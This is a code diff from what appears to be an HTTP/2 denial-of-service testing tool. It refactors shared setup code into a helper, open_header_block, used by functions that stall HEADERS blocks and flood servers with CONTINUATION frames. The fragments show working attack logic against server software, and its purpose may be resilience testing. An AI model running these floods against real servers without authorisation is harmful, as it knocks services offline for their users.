@@ -228,6 +228,17 @@ def watch(conns, deadline, step=None, reopen=None):
 
 # --- Issue 12 item 1: lockout by connections that stall -----------------------
 
+def open_header_block(conn):
+    """Handshake, then a HEADERS frame without END_HEADERS (the block left
+    open; the server's frames no longer acknowledged). Returns its stream."""
+    conn.handshake()
+    _, headers = conn.headers_block(HELLO)
+    headers.flags.discard("END_HEADERS")
+    conn.send_frames(headers)
+    conn.acknowledge = False
+    return headers.stream_id
+
+
 def attack_stall_preface(args, report, deadline):
     """Connections that stop half-way through the HTTP/2 preface."""
     def setup(conn):
@@ -240,15 +251,8 @@ def attack_stall_preface(args, report, deadline):
 
 def attack_stall_headers(args, report, deadline):
     """Connections that start a HEADERS block and never finish it."""
-    def setup(conn):
-        conn.handshake()
-        _, headers = conn.headers_block(HELLO)
-        headers.flags.discard("END_HEADERS")
-        conn.send_frames(headers)
-        conn.acknowledge = False
-
-    conns = open_conns(args, report, deadline, setup)
-    watch(conns, deadline, None, reopen(args, report, setup))
+    conns = open_conns(args, report, deadline, open_header_block)
+    watch(conns, deadline, None, reopen(args, report, open_header_block))
     return conns
 
 
@@ -436,12 +440,7 @@ def attack_ping_flood(args, report, deadline):
 def attack_continuation_flood(args, report, deadline):
     """A HEADERS frame followed by endless CONTINUATION frames."""
     def setup(conn):
-        conn.handshake()
-        _, headers = conn.headers_block(HELLO)
-        headers.flags.discard("END_HEADERS")
-        conn.send_frames(headers)
-        conn.acknowledge = False
-        conn.stream = headers.stream_id
+        conn.stream = open_header_block(conn)
 
     conns = open_conns(args, report, deadline, setup)
 
